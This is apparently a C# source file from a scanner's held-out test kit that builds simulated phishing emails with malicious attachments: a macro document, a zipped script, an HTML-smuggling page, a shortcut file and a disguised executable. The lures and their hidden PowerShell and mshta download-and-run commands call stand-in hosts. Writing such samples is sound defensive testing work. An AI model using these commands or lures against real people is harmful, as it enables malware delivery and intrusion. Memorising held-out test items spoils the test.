using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Letters that bring a whole attack with them.</summary>
public sealed class LettersWithAttachments : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var macros = EighthOffice.Word(EighthOffice.P("Enable content to view the invoice"), macros: EighthOffice.Vba(("ThisDocument", "Private Sub Document_Open()\n    Dim s: Set s = CreateObject(\"WScript.Shell\")\n    s.Run \"cmd /c powershell -w hidden -ep bypass -c \"\"(New-Object Net.WebClient).DownloadFile('http://198.51.100.8/i.exe','%TEMP%\\i.exe')\"\" & %TEMP%\\i.exe\", 0\nEnd Sub")));
        yield return ("overdue.eml", Letter("From: \"Accounts Receivable\" <billing@freight-office.example>\nTo: office@example.com\nSubject: OVERDUE INVOICE 88213 - final notice\nDate: Wed, 25 Nov 2026 07:41:12 +0000\nMessage-ID: <88213@freight-office.example>\nReceived: from unknown (HELO mail) (203.0.113.7)\nReceived-SPF: fail",
            "Dear customer,\n\nyour invoice is overdue. Please see the attached invoice and pay within 24 hours to avoid legal action.\n\nRegards", ("Invoice_88213.docm", "application/vnd.ms-word.document.macroEnabled.12", macros)));
        var script = Packed("zip", "U523", ("Scan_U523.js", Utf8("var w=new ActiveXObject('WScript.Shell');w.Run('powershell -nop -w hidden -c \"iex(irm http://192.0.2.19/u)\"',0);")));
        yield return ("RE_contract.eml", Letter("From: \"Ewa Malinowska\" <ewa.m@mail-relay.example>\nTo: biuro@example.com\nSubject: RE: RE: umowa\nDate: Wed, 25 Nov 2026 10:02:44 +0100\nIn-Reply-To: <x1@example.com>\nMessage-ID: <aa81@mail-relay.example>",
            "Dzien dobry,\n\nprosze zapoznac sie z zalacznikiem.\nArchive password: U523\n\n> On 3 Nov 2026 biuro@example.com wrote:\n> Dziekuje, prosze przeslac umowe.", ("umowa.zip", "application/zip", script)));
        var disc = Disc("RFQ", ("RFQ.pdf.exe", new EighthImage { Is64 = false }.Runtime().Importing("KERNEL32.dll", "VirtualAllocEx WriteProcessMemory ResumeThread SetThreadContext").Resource(10, 1, Noise(30000, 12)).Build()));
        yield return ("Fwd RFQ.msg", new MsgBuilder().Text(0x001A, "IPM.Note").Text(0x0037, "Fwd: RFQ urgent").Text(0x0C1A, "Purchasing").Text(0x0C1F, "purchasing@trade-mail.example").Text(0x1000, "See the forwarded message.")
            .AttachedMessage("RFQ urgent", inner => inner.Text(0x001A, "IPM.Note").Text(0x0037, "RFQ urgent").Text(0x1000, "Kindly open the drawing and quote your best price.").Attachment("Drawing_RFQ.img", disc)).Build());
        var page = Utf8("<html><body onload=\"d()\"><script>function d(){var k='" + Convert.ToBase64String(InertFiles.Zip(("voice.js", Utf8("WScript.CreateObject('WScript.Shell').Run('mshta http://192.0.2.5/v')")))) + "';var a=document.createElement('a');a.href='data:application/zip;base64,'+k;a.download='VM_0014.zip';a.click();}</script></body></html>");
        var inside = Letter("From: Voice Mail <noreply@voice-box.example>\nTo: staff@example.com\nSubject: Voice message (0:41)\nDate: Thu, 26 Nov 2026 06:00:00 +0000", "<p>You received a new voice message. Open the attachment to listen.</p>", ("VM_0014.wav.htm", "text/html", page), ("winmail.dat", "application/ms-tnef", TnefBuilder.WithAttachment("VM_0014.wav.lnk", new LinkBuilder().To("C:\\Windows\\System32\\mshta.exe").With("http://voice-box.example/v.hta").Icon("wmploc.dll").Build())));
        yield return ("undelivered.eml", Letter("From: Mail Delivery Subsystem <mailer-daemon@voice-box.example>\nTo: staff@example.com\nSubject: Undelivered mail returned\nDate: Thu, 26 Nov 2026 06:01:00 +0000", "The original message is attached.", ("message.eml", "message/rfc822", inside)));
    }
}
